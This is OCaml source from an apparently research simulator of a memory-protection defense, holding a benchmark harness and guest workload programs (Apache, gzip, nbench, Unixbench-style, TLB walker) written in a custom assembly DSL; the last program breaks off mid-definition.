let normalized ~baseline result = float_of_int baseline.cycles /. float_of_int result.cycles

let geomean values =
  match values with
  | [] -> invalid_arg "Harness.geomean: empty"
  | _ ->
    let logs = List.fold_left (fun acc v -> acc +. log v) 0.0 values in
    exp (logs /. float_of_int (List.length values))
