type result = {
  label : string;
  defense : string;
  cycles : int;
  insns : int;
  traps : int;
  split_faults : int;
  single_steps : int;
  ctx_switches : int;
  peak_frames : int;
  itlb_misses : int;
  dtlb_misses : int;
}

exception Did_not_finish of string

(* Fleet workers stringify job exceptions with [Printexc.to_string]; give
   the one exception experiments actually raise a readable rendering. *)
let () =
  Printexc.register_printer (function
    | Did_not_finish msg -> Some ("Did_not_finish: " ^ msg)
    | _ -> None)

let snapshot ~label ~defense (k : Kernel.Os.t) =
  let c = Kernel.Os.cost k in
  let mmu = Kernel.Os.mmu k in
  {
    label;
    defense;
    cycles = c.cycles;
    insns = c.insns;
    traps = c.traps;
    split_faults = c.split_faults;
    single_steps = c.single_steps;
    ctx_switches = c.ctx_switches;
    peak_frames = Kernel.Frame_alloc.peak_in_use (Kernel.Os.alloc k);
    itlb_misses = (Hw.Tlb.stats (Hw.Mmu.itlb mmu)).misses;
    dtlb_misses = (Hw.Tlb.stats (Hw.Mmu.dtlb mmu)).misses;
  }

let finish ~label ~defense k ~fuel =
  match Kernel.Os.run ~fuel k with
  | Kernel.Os.All_exited -> snapshot ~label ~defense k
  | Kernel.Os.All_blocked -> raise (Did_not_finish (label ^ ": deadlocked"))
  | Kernel.Os.Fuel_exhausted -> raise (Did_not_finish (label ^ ": fuel exhausted"))

(* --- experiment specs ---------------------------------------------------- *)

type guest = { image : Kernel.Image.t; eager : bool; protected : bool }

type wiring = Isolated | Pipeline of { capacity : int option }

type spec = {
  label : string;
  defense : Defense.t;
  protection : Kernel.Protection.t option;
  tlb_fill : Hw.Mmu.fill_mode option;
  frames : int;
  fuel : int;
  quantum : int option;
  seed : int option;
  itlb_capacity : int option;
  dtlb_capacity : int option;
  tlb_policy : Hw.Tlb.policy option;
  caches : bool;
  share_images : bool;
  wiring : wiring;
  guests : guest list;
}

let guest ?(eager = false) ?(protected = true) image = { image; eager; protected }

let spec ?label ?protection ?tlb_fill ?(frames = 16384) ?(fuel = 100_000_000)
    ?quantum ?seed ?itlb_capacity ?dtlb_capacity ?tlb_policy ?(caches = false)
    ?(share_images = false) ?(wiring = Isolated) ~defense guests =
  let label =
    match (label, guests) with
    | Some l, _ -> l
    | None, g :: _ -> g.image.Kernel.Image.name
    | None, [] -> invalid_arg "Harness.spec: no guests"
  in
  {
    label;
    defense;
    protection;
    tlb_fill;
    frames;
    fuel;
    quantum;
    seed;
    itlb_capacity;
    dtlb_capacity;
    tlb_policy;
    caches;
    share_images;
    wiring;
    guests;
  }

let single ?label ?frames ?fuel ?eager ?protected ?seed ~defense image =
  spec ?label ?frames ?fuel ?seed ~defense [ guest ?eager ?protected image ]

let pair ?label ?frames ?fuel ?capacity ?seed ~defense server client =
  spec ?label ?frames ?fuel ?seed ~wiring:(Pipeline { capacity }) ~defense
    [ guest server; guest client ]

let build ?(obs = Obs.null) s =
  let protection =
    match s.protection with Some p -> p | None -> Defense.to_protection s.defense
  in
  let tlb_fill =
    match s.tlb_fill with Some f -> f | None -> Defense.tlb_fill s.defense
  in
  let k =
    Kernel.Os.create ~frames:s.frames ~tlb_fill ?quantum:s.quantum ?seed:s.seed
      ?itlb_capacity:s.itlb_capacity ?dtlb_capacity:s.dtlb_capacity
      ?tlb_policy:s.tlb_policy ~caches:s.caches ~share_images:s.share_images ~obs
      ~protection ()
  in
  let procs =
    List.map
      (fun g -> Kernel.Os.spawn ~eager:g.eager ~protected:g.protected k g.image)
      s.guests
  in
  (match s.wiring with
  | Isolated -> ()
  | Pipeline { capacity } ->
    let rec wire = function
      | a :: b :: rest ->
        Kernel.Os.connect ?capacity k a b;
        wire rest
      | [ _ ] | [] -> ()
    in
    wire procs);
  k

let run_k ?obs ?tune s =
  let k = build ?obs s in
  Option.iter (fun f -> f k) tune;
  (finish ~label:s.label ~defense:(Defense.name s.defense) k ~fuel:s.fuel, k)

let run ?obs s = fst (run_k ?obs s)

(* --- fleet execution ----------------------------------------------------- *)

(* Each job gets its own machine and its own obs sink (specs never carry an
   [Obs.t]: a sink is mutable and must not be shared across domains). The
   per-job registries are folded into the caller's sink in submission
   order after the workers join, so the aggregate is identical for every
   [jobs] value. *)
let run_fleet_stats ?(obs = Obs.null) ?jobs specs =
  let live = Obs.enabled obs in
  let results, stats =
    Fleet.map_stats ~obs ?jobs
      ~label:(fun s -> s.label)
      (fun s ->
        let job_obs = if live then Obs.create () else Obs.null in
        (run ~obs:job_obs s, job_obs))
      specs
  in
  let results =
    List.map
      (function
        | Ok (r, job_obs) ->
          if live then Obs.merge_metrics ~into:obs job_obs;
          Ok r
        | Error (e : Fleet.error) -> Error e)
      results
  in
  (results, stats)

let run_fleet ?obs ?jobs specs = fst (run_fleet_stats ?obs ?jobs specs)

let run_fleet_exn ?obs ?jobs specs =
  List.map
    (function
      | Ok r -> r
      | Error (e : Fleet.error) -> raise (Did_not_finish (e.label ^ ": " ^ e.reason)))
    (run_fleet ?obs ?jobs specs)

(* --- legacy entrypoints (thin wrappers over specs) ----------------------- *)

let run_single_k ?frames ?fuel ?eager ?obs ~defense image =
  run_k ?obs (single ?frames ?fuel ?eager ~defense image)

let run_single ?frames ?fuel ?eager ?obs ~defense image =
  fst (run_single_k ?frames ?fuel ?eager ?obs ~defense image)

let run_pair_k ?frames ?fuel ?capacity ?obs ~defense server client =
  run_k ?obs (pair ?frames ?fuel ?capacity ~defense server client)

let run_pair ?frames ?fuel ?capacity ?obs ~defense server client =
  fst (run_pair_k ?frames ?fuel ?capacity ?obs ~defense server client)

(* Performance relative to the unprotected baseline: >1 never happens in
   practice; 0.9 means "runs at 90% of full speed" as in the paper's
   normalized plots. *)
let normalized ~baseline result = float_of_int baseline.cycles /. float_of_int result.cycles

let geomean values =
  match values with
  | [] -> invalid_arg "Harness.geomean: empty"
  | _ ->
    let logs = List.fold_left (fun acc v -> acc +. log v) 0.0 values in
    exp (logs /. float_of_int (List.length values))
