open Isa.Asm

(* Guest benchmark programs mirroring the paper's §6.2 workloads. The
   interaction shapes are what matter: the Apache pair context-switches per
   request and streams the response through memory; gzip and nbench are
   single-process compute with large/small working sets; the Unixbench
   pieces isolate syscall, pipe, context-switch, fork and copy costs. *)

(* --- Apache: server + ApacheBench client -------------------------------- *)

let apache_server ?(ws_pages = 8) ~size () =
  let body_pages = (size + 4095) / 4096 * 4096 in
  let bss_size = body_pages + (ws_pages * 4096) + 4096 in
  Kernel.Image.build ~name:(Fmt.str "apache-%dB" size) ~bss_size
    ~data:(fun ~lbl:_ -> [ L "req"; Space 64 ])
    ~code:(fun ~lbl ->
      [ L "main"; L "serve" ]
      @ Guest.sys_read_imm ~buf:(lbl "req") ~len:64
      @ [
          I (Cmp_ri (EAX, 0));
          I (Jz (Lbl "shutdown"));
          (* request handling walks the server's working set: config,
             logging and connection structures spread over several pages *)
          I (Mov_ri (ESI, lbl "bss" + body_pages));
          I (Mov_ri (ECX, 0));
          L "ws";
          I (Cmp_ri (ECX, ws_pages * 4096));
          I (Jge (Lbl "ws_end"));
          I (Mov_rr (EDI, ESI));
          I (Add (EDI, ECX));
          I (Storeb (EDI, 0, ECX));
          I (Add_ri (ECX, 4096));
          I (Jmp (Lbl "ws"));
          L "ws_end";
          (* build the response body: touch a byte in each cache line *)
          I (Mov_ri (ESI, lbl "bss"));
          I (Mov_ri (ECX, 0));
          L "prep";
          I (Cmp_ri (ECX, size));
          I (Jge (Lbl "prep_end"));
          I (Mov_rr (EDI, ESI));
          I (Add (EDI, ECX));
          I (Storeb (EDI, 0, ECX));
          I (Add_ri (ECX, 64));
          I (Jmp (Lbl "prep"));
          L "prep_end";
          (* stream the body out, handling partial writes *)
          I (Mov_ri (ESI, lbl "bss"));
          I (Mov_ri (EDI, size));
          L "wr";
          I (Mov_ri (EAX, 4));
          I (Mov_ri (EBX, 1));
          I (Mov_rr (ECX, ESI));
          I (Mov_rr (EDX, EDI));
          I (Int 0x80);
          I (Cmp_ri (EAX, 0));
          I (Jl (Lbl "shutdown"));
          I (Add (ESI, EAX));
          I (Sub (EDI, EAX));
          I (Cmp_ri (EDI, 0));
          I (Jnz (Lbl "wr"));
          I (Jmp (Lbl "serve"));
          L "shutdown";
        ]
      @ Guest.sys_exit 0)
    ~entry:"main" ()

let apache_client ~size ~requests () =
  Kernel.Image.build ~name:"ab" ~bss_size:8192
    ~data:(fun ~lbl:_ -> [ L "reqmsg"; Bytes "GET /\n" ])
    ~code:(fun ~lbl ->
      [ L "main"; I (Mov_ri (EDI, requests)); L "req_loop"; I (Cmp_ri (EDI, 0)); I (Jz (Lbl "done")) ]
      @ Guest.sys_write_imm ~buf:(lbl "reqmsg") ~len:6 ()
      @ [
          I (Mov_ri (ESI, size));
          L "rd";
          I (Mov_ri (EAX, 3));
          I (Mov_ri (EBX, 0));
          I (Mov_ri (ECX, lbl "bss"));
          I (Mov_ri (EDX, 4096));
          I (Int 0x80);
          I (Cmp_ri (EAX, 0));
          I (Jz (Lbl "done"));
          I (Sub (ESI, EAX));
          I (Cmp_ri (ESI, 0));
          I (Jnz (Lbl "rd"));
          I (Add_ri (EDI, -1));
          I (Jmp (Lbl "req_loop"));
          L "done";
        ]
      @ Guest.sys_exit 0)
    ~entry:"main" ()

(* --- gzip: streaming compression of a file read over blocking I/O ------- *)

(* The "disk": streams the input file in blocks, blocking the consumer on
   each read — the I/O pattern that made the real gzip context-switch. *)
let gzip_disk ~size ~block () =
  Kernel.Image.build ~name:"disk" ~bss_size:(block + 4096)
    ~code:(fun ~lbl ->
      [
        L "main";
        I (Mov_ri (EDI, size));
        L "loop";
        I (Cmp_ri (EDI, 0));
        I (Jz (Lbl "done"));
      ]
      @ Guest.sys_write_imm ~buf:(lbl "bss") ~len:block ()
      @ [ I (Sub (EDI, EAX)); I (Jmp (Lbl "loop")); L "done" ]
      @ Guest.sys_exit 0)
    ~entry:"main" ()

let gzip ?(dict_pages = 3) ~size () =
  let input = Kernel.Layout.heap_base in
  Kernel.Image.build ~name:(Fmt.str "gzip-%dKB" (size / 1024))
    ~bss_size:((dict_pages + 1) * 4096)
    ~code:(fun ~lbl ->
      [
        L "main";
        I (Mov_ri (ESI, input));
        (* input cursor *)
        I (Mov_ri (EBP, size));
        (* bytes remaining *)
        L "rd_loop";
        I (Cmp_ri (EBP, 0));
        I (Jz (Lbl "done"));
        (* read the next block from the "disk" *)
        I (Mov_ri (EAX, 3));
        I (Mov_ri (EBX, 0));
        I (Mov_rr (ECX, ESI));
        I (Mov_rr (EDX, EBP));
        I (Int 0x80);
        I (Cmp_ri (EAX, 0));
        I (Jz (Lbl "done"));
        I (Mov_rr (EDI, EAX));
        (* chunk length *)
        (* refresh the compression dictionary (working set) *)
        I (Mov_ri (ECX, 0));
        L "dict";
        I (Cmp_ri (ECX, dict_pages * 4096));
        I (Jge (Lbl "dict_end"));
        I (Mov_ri (EBX, lbl "bss"));
        I (Add (EBX, ECX));
        I (Storeb (EBX, 0, ECX));
        I (Add_ri (ECX, 4096));
        I (Jmp (Lbl "dict"));
        L "dict_end";
        (* compress the chunk: rolling hash over every byte *)
        I (Mov_ri (EDX, 0));
        I (Mov_ri (ECX, 0));
        L "cl";
        I (Cmp (ECX, EDI));
        I (Jge (Lbl "cl_end"));
        I (Mov_rr (EBX, ESI));
        I (Add (EBX, ECX));
        I (Loadb (EAX, EBX, 0));
        I (Shl (EDX, 1));
        I (Add (EDX, EAX));
        I (Add_ri (ECX, 1));
        I (Jmp (Lbl "cl"));
        L "cl_end";
        I (Add (ESI, EDI));
        I (Sub (EBP, EDI));
        I (Jmp (Lbl "rd_loop"));
        L "done";
      ]
      @ Guest.sys_exit 0)
    ~entry:"main" ()

(* --- nbench: computation over a small working set ----------------------- *)

let nbench ~iters () =
  Kernel.Image.build ~name:"nbench" ~bss_size:4096
    ~code:(fun ~lbl ->
      [
        L "main";
        I (Mov_ri (EDI, iters));
        L "outer";
        I (Cmp_ri (EDI, 0));
        I (Jz (Lbl "done"));
        (* bitfield/arithmetic pass over one page of words *)
        I (Mov_ri (ECX, 0));
        L "inner";
        I (Cmp_ri (ECX, 1024));
        I (Jge (Lbl "inner_end"));
        I (Mov_rr (ESI, ECX));
        I (Shl (ESI, 2));
        I (Mov_rr (EAX, ESI));
        I (Mov_rr (EBX, ECX));
        I (Mul (EBX, EAX));
        I (Xor (EBX, EAX));
        I (Shr (EBX, 3));
        I (Add (EBX, ECX));
        I (Add_ri (ECX, 1));
        I (Jmp (Lbl "inner"));
        L "inner_end";
        (* one word of memory traffic per outer pass *)
        I (Mov_ri (ESI, lbl "bss"));
        I (Store (ESI, 0, EBX));
        I (Add_ri (EDI, -1));
        I (Jmp (Lbl "outer"));
        L "done";
      ]
      @ Guest.sys_exit 0)
    ~entry:"main" ()

(* nbench-style kernels: real algorithms over small working sets. The
   paper quotes the suite's slowest test, so several kernels matter. *)

(* Insertion sort over [n] words, [rounds] times (numeric sort). *)
let numeric_sort ?(n = 128) ~rounds () =
  Kernel.Image.build ~name:"nb-numsort" ~bss_size:8192
    ~code:(fun ~lbl ->
      [
        L "main";
        I (Mov_ri (EBP, rounds));
        L "round";
        I (Cmp_ri (EBP, 0));
        I (Jz (Lbl "done"));
        (* fill descending: a[i] = n - i *)
        I (Mov_ri (EBX, lbl "bss"));
        I (Mov_ri (ECX, 0));
        L "fill";
        I (Cmp_ri (ECX, n));
        I (Jge (Lbl "fill_end"));
        I (Mov_ri (EAX, n));
        I (Sub (EAX, ECX));
        I (Mov_rr (ESI, ECX));
        I (Shl (ESI, 2));
        I (Add (ESI, EBX));
        I (Store (ESI, 0, EAX));
        I (Add_ri (ECX, 1));
        I (Jmp (Lbl "fill"));
        L "fill_end";
        (* insertion sort *)
        I (Mov_ri (ECX, 1));
        L "outer";
        I (Cmp_ri (ECX, n));
        I (Jge (Lbl "sorted"));
        I (Mov_rr (ESI, ECX));
        I (Shl (ESI, 2));
        I (Add (ESI, EBX));
        I (Load (EDI, ESI, 0));
        (* key *)
        I (Mov_rr (EDX, ECX));
        I (Add_ri (EDX, -1));
        L "inner";
        I (Cmp_ri (EDX, 0));
        I (Jl (Lbl "place"));
        I (Mov_rr (ESI, EDX));
        I (Shl (ESI, 2));
        I (Add (ESI, EBX));
        I (Load (EAX, ESI, 0));
        I (Cmp (EAX, EDI));
        I (Jl (Lbl "place"));
        I (Store (ESI, 4, EAX));
        I (Add_ri (EDX, -1));
        I (Jmp (Lbl "inner"));
        L "place";
        I (Mov_rr (ESI, EDX));
        I (Shl (ESI, 2));
        I (Add (ESI, EBX));
        I (Store (ESI, 4, EDI));
        I (Add_ri (ECX, 1));
        I (Jmp (Lbl "outer"));
        L "sorted";
        I (Add_ri (EBP, -1));
        I (Jmp (Lbl "round"));
        L "done";
      ]
      @ Guest.sys_exit 0)
    ~entry:"main" ()

(* Bubble passes over a byte array (string sort flavor). *)
let string_sort ?(n = 768) ~rounds () =
  Kernel.Image.build ~name:"nb-strsort" ~bss_size:8192
    ~code:(fun ~lbl ->
      [
        L "main";
        I (Mov_ri (EBP, rounds));
        L "round";
        I (Cmp_ri (EBP, 0));
        I (Jz (Lbl "done"));
        (* seed bytes via LCG *)
        I (Mov_ri (EBX, lbl "bss"));
        I (Mov_ri (ECX, 0));
        I (Mov_ri (EDX, 7));
        L "seed";
        I (Cmp_ri (ECX, n));
        I (Jge (Lbl "seed_end"));
        I (Mov_ri (EAX, 75));
        I (Mul (EDX, EAX));
        I (Add_ri (EDX, 74));
        I (Mov_rr (ESI, EBX));
        I (Add (ESI, ECX));
        I (Storeb (ESI, 0, EDX));
        I (Add_ri (ECX, 1));
        I (Jmp (Lbl "seed"));
        L "seed_end";
        (* one bubble pass *)
        I (Mov_ri (ECX, 0));
        L "pass";
        I (Cmp_ri (ECX, n - 1));
        I (Jge (Lbl "pass_end"));
        I (Mov_rr (ESI, EBX));
        I (Add (ESI, ECX));
        I (Loadb (EAX, ESI, 0));
        I (Loadb (EDX, ESI, 1));
        I (Cmp (EDX, EAX));
        I (Jge (Lbl "noswap"));
        I (Storeb (ESI, 0, EDX));
        I (Storeb (ESI, 1, EAX));
        L "noswap";
        I (Add_ri (ECX, 1));
        I (Jmp (Lbl "pass"));
        L "pass_end";
        I (Add_ri (EBP, -1));
        I (Jmp (Lbl "round"));
        L "done";
      ]
      @ Guest.sys_exit 0)
    ~entry:"main" ()

(* Fixed-point multiply-accumulate over a coefficient table (fourier
   flavor). *)
let fourier ?(n = 256) ~rounds () =
  Kernel.Image.build ~name:"nb-fourier" ~bss_size:4096
    ~code:(fun ~lbl ->
      [
        L "main";
        I (Mov_ri (EBP, rounds));
        I (Mov_ri (EBX, lbl "bss"));
        L "round";
        I (Cmp_ri (EBP, 0));
        I (Jz (Lbl "done"));
        I (Mov_ri (ECX, 0));
        I (Mov_ri (EDI, 0));
        (* accumulator *)
        L "mac";
        I (Cmp_ri (ECX, n));
        I (Jge (Lbl "mac_end"));
        I (Mov_rr (EAX, ECX));
        I (Mov_rr (EDX, ECX));
        I (Add_ri (EDX, 3));
        I (Mul (EAX, EDX));
        I (Shr (EAX, 8));
        I (Add (EDI, EAX));
        I (Add_ri (ECX, 1));
        I (Jmp (Lbl "mac"));
        L "mac_end";
        I (Store (EBX, 0, EDI));
        I (Add_ri (EBP, -1));
        I (Jmp (Lbl "round"));
        L "done";
      ]
      @ Guest.sys_exit 0)
    ~entry:"main" ()

let nbench_suite ~scale =
  [
    ("numeric sort", numeric_sort ~rounds:(2 * scale) ());
    ("string sort", string_sort ~rounds:(4 * scale) ());
    ("bitfield", nbench ~iters:(8 * scale) ());
    ("fourier", fourier ~rounds:(12 * scale) ());
  ]

(* --- Unixbench pieces ---------------------------------------------------- *)

let syscall_bench ~iters () =
  Kernel.Image.build ~name:"ub-syscall" ~bss_size:0
    ~code:(fun ~lbl:_ ->
      [
        L "main";
        I (Mov_ri (EDI, iters));
        L "loop";
        I (Cmp_ri (EDI, 0));
        I (Jz (Lbl "done"));
        I (Mov_ri (EAX, 20));
        I (Int 0x80);
        I (Add_ri (EDI, -1));
        I (Jmp (Lbl "loop"));
        L "done";
      ]
      @ Guest.sys_exit 0)
    ~entry:"main" ()

let pipe_throughput ~iters () =
  Kernel.Image.build ~name:"ub-pipe" ~bss_size:8192
    ~data:(fun ~lbl:_ -> [ L "fds"; Words [ 0; 0 ] ])
    ~code:(fun ~lbl ->
      [
        L "main";
        I (Mov_ri (EAX, 42));
        I (Mov_ri (EBX, lbl "fds"));
        I (Int 0x80);
        I (Mov_ri (ESI, lbl "fds"));
        I (Load (EBP, ESI, 0));
        (* read fd *)
        I (Load (EDI, ESI, 4));
        (* write fd; loop counter in a bss word *)
        I (Mov_ri (ESI, lbl "bss"));
        I (Mov_ri (EAX, iters));
        I (Store (ESI, 4096, EAX));
        L "loop";
        (* write(wfd, buf, 512) *)
        I (Mov_ri (EAX, 4));
        I (Mov_rr (EBX, EDI));
        I (Mov_ri (ECX, lbl "bss"));
        I (Mov_ri (EDX, 512));
        I (Int 0x80);
        (* read(rfd, buf, 512) *)
        I (Mov_ri (EAX, 3));
        I (Mov_rr (EBX, EBP));
        I (Mov_ri (ECX, lbl "bss"));
        I (Mov_ri (EDX, 512));
        I (Int 0x80);
        I (Mov_ri (ESI, lbl "bss"));
        I (Load (EAX, ESI, 4096));
        I (Add_ri (EAX, -1));
        I (Store (ESI, 4096, EAX));
        I (Cmp_ri (EAX, 0));
        I (Jnz (Lbl "loop"));
      ]
      @ Guest.sys_exit 0)
    ~entry:"main" ()

(* Pipe-based context switching: two processes ping-pong a token. Each
   iteration walks a multi-page working set and executes multi-page code, so
   the overhead (and Fig. 9's fractional splitting) is spread over many
   pages, as it is for real binaries with their libraries. *)

let ctxsw_ws = 4
let ctxsw_stride = 32

let ctxsw_ping ~iters () =
  Kernel.Image.build ~name:"ctxsw-ping" ~bss_size:((2 * ctxsw_ws * 4096) + 8192)
    ~data:(fun ~lbl:_ -> [ L "tok"; Bytes "PING" ])
    ~code:(fun ~lbl ->
      [
        L "main";
        I (Mov_ri (EDI, iters));
        L "loop";
        I (Cmp_ri (EDI, 0));
        I (Jz (Lbl "done"));
        I (Call (Lbl "hotcode"));
      ]
      @ Guest.ws_walk ~tag:"ping" ~bss:(lbl "bss") ~page_offset:0 ~pages:ctxsw_ws
          ~stride:ctxsw_stride
      @ Guest.sys_write_imm ~buf:(lbl "tok") ~len:4 ()
      @ Guest.sys_read_imm ~buf:(lbl "bss" + (2 * ctxsw_ws * 4096)) ~len:4
      @ [ I (Add_ri (EDI, -1)); I (Jmp (Lbl "loop")); L "done" ]
      @ Guest.sys_exit 0
      @ Guest.code_filler ~tag:"hotcode" ~pages:1)
    ~entry:"main" ()

let ctxsw_pong () =
  Kernel.Image.build ~name:"ctxsw-pong" ~bss_size:((2 * ctxsw_ws * 4096) + 8192)
    ~code:(fun ~lbl ->
      [ L "main"; L "loop" ]
      @ Guest.sys_read_imm ~buf:(lbl "bss" + (2 * ctxsw_ws * 4096) + 4096) ~len:4
      @ [ I (Cmp_ri (EAX, 0)); I (Jz (Lbl "done")); I (Call (Lbl "hotcode")) ]
      @ Guest.ws_walk ~tag:"pong" ~bss:(lbl "bss") ~page_offset:ctxsw_ws ~pages:ctxsw_ws
          ~stride:ctxsw_stride
      @ Guest.sys_write_imm ~buf:(lbl "bss" + (2 * ctxsw_ws * 4096) + 4096) ~len:4 ()
      @ [ I (Jmp (Lbl "loop")); L "done" ]
      @ Guest.sys_exit 0
      @ Guest.code_filler ~tag:"hotcode" ~pages:1)
    ~entry:"main" ()

(* Process creation: fork + immediate child exit + waitpid. *)

let spawn_bench ~iters () =
  Kernel.Image.build ~name:"ub-spawn" ~bss_size:0
    ~code:(fun ~lbl:_ ->
      [
        L "main";
        I (Mov_ri (EDI, iters));
        L "loop";
        I (Cmp_ri (EDI, 0));
        I (Jz (Lbl "done"));
        I (Mov_ri (EAX, 2));
        I (Int 0x80);
        I (Cmp_ri (EAX, 0));
        I (Jnz (Lbl "parent"));
        (* child *)
        I (Mov_ri (EAX, 1));
        I (Mov_ri (EBX, 0));
        I (Int 0x80);
        L "parent";
        I (Mov_rr (EBX, EAX));
        I (Mov_ri (EAX, 7));
        I (Int 0x80);
        I (Add_ri (EDI, -1));
        I (Jmp (Lbl "loop"));
        L "done";
      ]
      @ Guest.sys_exit 0)
    ~entry:"main" ()

(* Filesystem-style buffer copies between two heap regions. *)

let fscopy ~passes ~size () =
  let src = Kernel.Layout.heap_base in
  let dst = Kernel.Layout.heap_base + 0x400000 in
  Kernel.Image.build ~name:"ub-fscopy" ~bss_size:0
    ~code:(fun ~lbl:_ ->
      [
        L "main";
        I (Mov_ri (EBP, passes));
        L "pass";
        I (Cmp_ri (EBP, 0));
        I (Jz (Lbl "done"));
        I (Mov_ri (ECX, 0));
        L "copy";
        I (Cmp_ri (ECX, size));
        I (Jge (Lbl "copy_end"));
        I (Mov_ri (ESI, src));
        I (Add (ESI, ECX));
        I (Load (EAX, ESI, 0));
        I (Mov_ri (EDI, dst));
        I (Add (EDI, ECX));
        I (Store (EDI, 0, EAX));
        I (Add_ri (ECX, 4));
        I (Jmp (Lbl "copy"));
        L "copy_end";
        I (Add_ri (EBP, -1));
        I (Jmp (Lbl "pass"));
        L "done";
      ]
      @ Guest.sys_exit 0)
    ~entry:"main" ()

(* TLB pressure kernel for the profiler's policy sweep: each round walks
   [pages] data pages in order, re-touching the hot page (page 0) between
   every step. With LRU the hot page stays resident and only the walk
   misses; FIFO evicts it in rotation and thrashes once [pages] exceeds
   the TLB capacity — exactly the reuse pattern the streaming workloads
   (gzip, fscopy) lack, which is why their miss rates are flat in
   capacity. *)
let tlb_walker ?(pages = 12) ~rounds () =
  Kernel.Image.build ~name:"tlb-walker" ~bss_size:(pages * 4096)
    ~code:(fun ~lbl ->
      [
        L "main";
        I (Mov_ri (EBP, rounds));
        L "round";
        I (Cmp_ri (EBP, 0));
        I (Jz (Lbl "done"));
        I (Mov_ri (ECX, 0));
        L "walk";
        I (Cmp_ri (ECX, pages * 4096));
        I (Jge (Lbl "walk_end"));
        I (Mov_ri (EBX, lbl "bss"));
        I (Add (EBX, ECX));
        I (Load (EAX, EBX, 0));
        I (Mov_ri (EBX, lbl "bss"));
        I (Load (EDX, EBX, 0));
        I (Add_ri (ECX, 4096));
        I (Jmp (Lbl "walk"));
        L "walk_end";
        I (Add_ri (EBP, -1));
        I (Jmp (Lbl "round"));
        L "done";
      ]
      @ Guest.sys_exit 0)
    ~entry:"main" ()

(* A sparse image: a large data segment of which the program touches only a
   prefix — distinguishes eager page duplication (the paper's prototype)
   from demand splitting (its proposed optimization). *)
let sparse ?(data_pages = 32) ?(touch_pages = 2) () =
  Kernel.Image.build ~name:"sparse" ~bss_size:0
    ~data:(fun ~lbl:_ -> [ L "blob"; Space (data_pages * 4096) ])
    ~code:(fun ~lbl ->
      [
        L "main";
        I (Mov_ri (ECX, 0));
        L "touch";
        I (Cmp_ri (ECX, touch_pages * 4096));
        I (Jge (Lbl "done"));
        I (Mov_ri (EBX, lbl "blob"));
        I (Add (EBX, ECX));
        I (Storeb (EBX, 0, ECX));
        I (Add_ri (ECX, 4096));
        I (Jmp (Lbl "touch"));
        L "done";
      ]
      @ Guest.sys_exit 0)
    ~entry:"main" ()

(* Scale-out unit process: a short compute loop walking a multi-page
   read-only blob. Every image-backed byte it touches (code + rodata) is
   read-only, so under loader COW ([share_images]) N identical instances
   share all their image frames; per-instance private memory is just the
   stack. Cheap enough that a 10k-process machine finishes in seconds. *)
let scale_unit ?(ro_pages = 8) ?(rounds = 4) () =
  Kernel.Image.build ~name:"scale-unit"
    ~rodata:[ L "blob"; Space (ro_pages * 4096) ]
    ~code:(fun ~lbl ->
      [
        L "main";
        I (Mov_ri (EBP, rounds));
        L "round";
        I (Cmp_ri (EBP, 0));
        I (Jz (Lbl "done"));
        I (Mov_ri (ECX, 0));
        I (Mov_ri (EDX, 0));
        L "walk";
        I (Cmp_ri (ECX, ro_pages * 4096));
        I (Jge (Lbl "walk_end"));
        I (Mov_ri (EBX, lbl "blob"));
        I (Add (EBX, ECX));
        I (Load (EAX, EBX, 0));
        I (Add (EDX, EAX));
        I (Add_ri (ECX, 4096));
        I (Jmp (Lbl "walk"));
        L "walk_end";
        I (Add_ri (EBP, -1));
        I (Jmp (Lbl "round"));
        L "done";
      ]
      @ Guest.sys_exit 0)
    ~entry:"main" ()

(* --- serving benchmark: table-driven Apache pair (lib/serve) ------------ *)

(* The serving-benchmark server. Same shape as [apache_server] — read a
   request, walk state, build a body, stream it out — but the request
   carries a byte offset into a popularity-addressed working set (the
   load generator's Zipf pick over the "page cache"), so the memory the
   request handler touches follows the offered traffic. *)
let serve_server ?(ws_pages = 8) ~size () =
  let body_pages = (size + 4095) / 4096 * 4096 in
  let bss_size = body_pages + (ws_pages * 4096) + 4096 in
  Kernel.Image.build ~name:"serve-server" ~bss_size
    ~data:(fun ~lbl:_ -> [ L "req"; Space 64 ])
    ~code:(fun ~lbl ->
      [ L "main"; L "serve" ]
      @ Guest.sys_read_imm ~buf:(lbl "req") ~len:64
      @ [
          I (Cmp_ri (EAX, 1));
          I (Jl (Lbl "shutdown"));
          (* first request word = byte offset of the popular page *)
          I (Mov_ri (ESI, lbl "req"));
          I (Load (ECX, ESI, 0));
          I (Mov_ri (EDI, lbl "bss" + body_pages));
          I (Add (EDI, ECX));
          I (Storeb (EDI, 0, ECX));
          I (Load (EAX, EDI, 4));
          (* build the response body: touch a byte in each cache line *)
          I (Mov_ri (ESI, lbl "bss"));
          I (Mov_ri (ECX, 0));
          L "prep";
          I (Cmp_ri (ECX, size));
          I (Jge (Lbl "prep_end"));
          I (Mov_rr (EDI, ESI));
          I (Add (EDI, ECX));
          I (Storeb (EDI, 0, ECX));
          I (Add_ri (ECX, 64));
          I (Jmp (Lbl "prep"));
          L "prep_end";
          (* stream the body out, handling partial writes *)
          I (Mov_ri (ESI, lbl "bss"));
          I (Mov_ri (EDI, size));
          L "wr";
          I (Mov_ri (EAX, 4));
          I (Mov_ri (EBX, 1));
          I (Mov_rr (ECX, ESI));
          I (Mov_rr (EDX, EDI));
          I (Int 0x80);
          I (Cmp_ri (EAX, 0));
          I (Jl (Lbl "shutdown"));
          I (Add (ESI, EAX));
          I (Sub (EDI, EAX));
          I (Cmp_ri (EDI, 0));
          I (Jnz (Lbl "wr"));
          I (Jmp (Lbl "serve"));
          L "shutdown";
        ]
      @ Guest.sys_exit 0)
    ~entry:"main" ()

(* The serving-benchmark client: replays a precomputed request schedule.
   [schedule] is one (page_byte_offset, pace) pair per request, baked
   into rodata. Closed-loop pace = think cycles slept *after* the
   response is drained; open-loop pace = the absolute arrival cycle the
   request is released at (paced via time() + nanosleep, so arrivals
   stay on schedule below saturation and degrade to back-to-back above
   it). *)
let serve_client ~mode ~size ~schedule () =
  let n = Array.length schedule in
  let words =
    Array.to_list schedule |> List.concat_map (fun (page, pace) -> [ page; pace ])
  in
  let pace_prologue, pace_epilogue =
    match mode with
    | `Open ->
      (* delta = scheduled arrival - time(); nanosleep ignores delta <= 0 *)
      ( [
          I (Load (EBX, ESI, 4));
          I (Mov_ri (EAX, 13));
          I (Int 0x80);
          I (Sub (EBX, EAX));
          I (Mov_ri (EAX, 162));
          I (Int 0x80);
        ],
        [] )
    | `Closed ->
      (* think between completing a response and the next request *)
      ( [],
        [ I (Load (EBX, ESI, 4)); I (Mov_ri (EAX, 162)); I (Int 0x80) ] )
  in
  Kernel.Image.build ~name:"serve-client" ~bss_size:8192
